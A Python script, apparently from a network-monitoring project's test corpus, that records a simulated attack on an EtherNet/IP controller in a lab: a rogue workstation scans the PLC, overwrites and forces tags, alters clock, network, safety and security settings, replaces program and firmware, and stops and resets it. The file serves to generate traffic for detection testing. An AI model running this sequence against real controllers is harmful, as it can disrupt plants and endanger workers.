"""A rogue workstation maps a controller, forces and overwrites its tags, changes program, firmware, clock and
network settings, and stops, starts and resets it, beside an HMI at work."""

from typing import Any

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "enip/recorded-attack",
    stacks=("cpppo 5.2.5", "pycomm3 1.2.16", "pylogix 1.1.6"),
    servers=("10.51.1.10", "10.51.1.11"),
    clients=("10.51.1.20", "10.51.1.66"),
    listens=("tcp 44818", "udp 44818"),
)


def server() -> None:
    """The controllers of a mixer, which is attacked, and of a packer."""
    from _enip_controller import controllers

    controllers()


def client() -> None:
    """Look around, write, force, change, stop; the same once more by hand for paths no library builds."""
    from _enip import ATTACKER, HMI, MIXER, PACKER
    from _enip_clients import panel, tool

    screens = [panel(HMI, plc) for plc in (MIXER, PACKER)]
    for screen in screens:
        screen.Read("Speed[0]", 10)
    _look_around(ATTACKER, MIXER)
    rogue = panel(ATTACKER, MIXER)
    for index in range(20):
        rogue.Write(f"Speed[{index}]", 32767)
    rogue.Close()
    driver = tool(ATTACKER, MIXER)
    _change_objects(driver)
    _change_program(driver)
    _pccc(driver)
    _stop_and_reset(driver)
    driver.close()
    _by_hand(ATTACKER, MIXER)
    for screen in screens:
        screen.Read("Speed[0]", 10)
        screen.Close()


def _look_around(source: str, target: str) -> None:
    import struct

    import _enip as e
    from _enip_clients import PLAIN, find, inquire, tell, tool

    find(source)
    inquire(source, target)
    scanner = e.Raw(source, target)
    scanner.encapsulate(0x63, context=bytes.fromhex("00 00 00 00 c1 de be d1"))
    scanner.close()
    driver = tool(source, target)
    tell(driver, e.GET_ALL, e.IDENTITY, how=PLAIN)
    tell(driver, e.LIST_INSTANCES, e.SYMBOLS, struct.pack("<HHH", 2, 1, 2))
    for kind in range(0x300, 0x30C):
        tell(driver, e.GET_ALL, kind, how=PLAIN)
    driver.close()


def _change_objects(driver: Any) -> None:
    """Forces, clock, network settings, safety and security objects."""
    import struct

    import _enip as e
    from _enip_clients import PLAIN, WRAPPED, tell

    for service in (e.WRITE_TAG, e.MODIFY_TAG):
        for kind in (e.PROGRAMS, 0x69):
            tell(driver, service, kind, bytes.fromhex("c3 00 01 00 ff 7f"))
    tell(driver, e.MODIFY_TAG, e.SYMBOLS, bytes.fromhex("02 00 ff ff 00 00"))
    tell(driver, e.SET_LIST, e.CLOCK, struct.pack("<HHQ", 1, 6, 1_935_810_000_000_000))
    for how in (PLAIN, WRAPPED):
        tell(driver, e.SET_ONE, e.ETHERNET, bytes.fromhex("02 00 64 00"), attribute=6, how=how)
    address = bytes((10, 51, 1, 99)[::-1]) + bytes.fromhex("00 ff ff ff") + bytes(14)
    tell(driver, e.SET_ONE, e.TCP_IP, address, attribute=5)
    tell(driver, e.SET_ONE, e.SAFETY, b"\x01", attribute=11)
    for kind in (e.SECURITY, 0x5E, 0x5F):
        tell(driver, e.SET_ONE, kind, b"\x00", attribute=1)


def _change_program(driver: Any) -> None:
    """Upload, download object by object, edit online, replace the firmware."""
    import _enip as e
    from _enip_clients import tell

    tell(driver, e.UPLOAD, e.ROUTINES)
    tell(driver, e.STOP, e.CONTROLLER)
    tell(driver, e.RESET, 0x72)
    for kind in (0x68, 0x69, 0x6A, 0x6B, 0x6C, 0x6D, 0x6F, 0x70, 0x72, 0x7E, 0xAC):
        tell(driver, e.CREATE, kind, bytes(4))
    for block in range(8):
        tell(driver, e.DOWNLOAD, e.ROUTINES, bytes((block,)) * 100)
    tell(driver, e.WRITE_TAG, e.TEMPLATES, bytes(8))
    tell(driver, e.START, e.CONTROLLER)
    tell(driver, e.EDIT, e.ROUTINES, b"\x01\x00" + bytes(20))
    tell(driver, e.DELETE, e.TASKS)
    tell(driver, e.LOCK, e.FIRMWARE)
    tell(driver, e.EDIT, e.FIRMWARE, bytes(4))
    for block in range(40):
        tell(driver, e.WRITE_TAG, e.FIRMWARE, block.to_bytes(4, "little") + bytes(100))


def _pccc(driver: Any) -> None:
    """What older controllers know: mode, download, upload, forces, outputs, memory."""
    import _enip as e
    from _enip_clients import tell

    for command, function, data in (
        (0x0F, 0x80, b"\x01"),
        (0x0F, 0x3A, b"\x01"),
        (0x0F, 0x05, b""),
        (0x0F, 0x50, bytes(4)),
        (0x0F, 0x52, b""),
        (0x0F, 0x06, b""),
        (0x0F, 0x53, bytes(4)),
        (0x0F, 0x55, b""),
        (0x0F, 0x41, b""),
        (0x07, 0x00, b""),
        (0x07, 0x01, b""),
        (0x0F, 0x57, b""),
        (0x0F, 0x08, bytes(6)),
        (0x0F, 0x67, bytes(8)),
    ):
        tell(driver, e.EXECUTE_PCCC, e.PCCC, e.pccc(command, function, data))


def _stop_and_reset(driver: Any) -> None:
    import _enip as e
    from _enip_clients import CONNECTED, PLAIN, WRAPPED, tell

    for how in (CONNECTED, PLAIN, WRAPPED):
        tell(driver, e.STOP, e.CONTROLLER, how=how)
        tell(driver, e.START, e.CONTROLLER, how=how)
        tell(driver, e.RESET, e.IDENTITY, b"\x00", how=how)
    tell(driver, e.STOP, 0x64)
    tell(driver, e.RESET, e.CONTROLLER)
    tell(driver, e.RESET, e.IDENTITY, b"\x01")


def _by_hand(source: str, target: str) -> None:
    """Locks, routines inside programs, a request that crashed old modules, cyclic outputs, not CIP."""
    import socket

    import _enip as e

    raw = e.Raw(source, target)
    raw.register()
    locks, routine = e.path(e.CONTROLLER, e.LOCKS), e.path(e.PROGRAMS, e.ROUTINES)
    for wrapped in (False, True):
        raw.send(e.cip(e.LOCK, locks, b"\x01"), wrapped=wrapped)
        for service in (e.UPLOAD, e.DOWNLOAD, e.EDIT):
            raw.send(e.cip(service, routine, bytes(8)), wrapped=wrapped)
        raw.send(e.cip(e.UNLOCK, locks), wrapped=wrapped)
    raw.send(e.cip(e.GET_ONE, e.path(e.TCP_IP) + b"\x30\x05"))
    raw.close()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outputs:
        outputs.bind((source, e.IO_PORT))
        for number in range(1, 21):
            outputs.sendto(e.io_data(0x00BADBAD, number, b"\x01\x00\x00\x00\xff\xff"), (target, e.IO_PORT))
    stranger = e.Raw(source, target)
    stranger.say(b"GET / HTTP/1.1\r\nHost: plc\r\n\r\n")
    stranger.close()
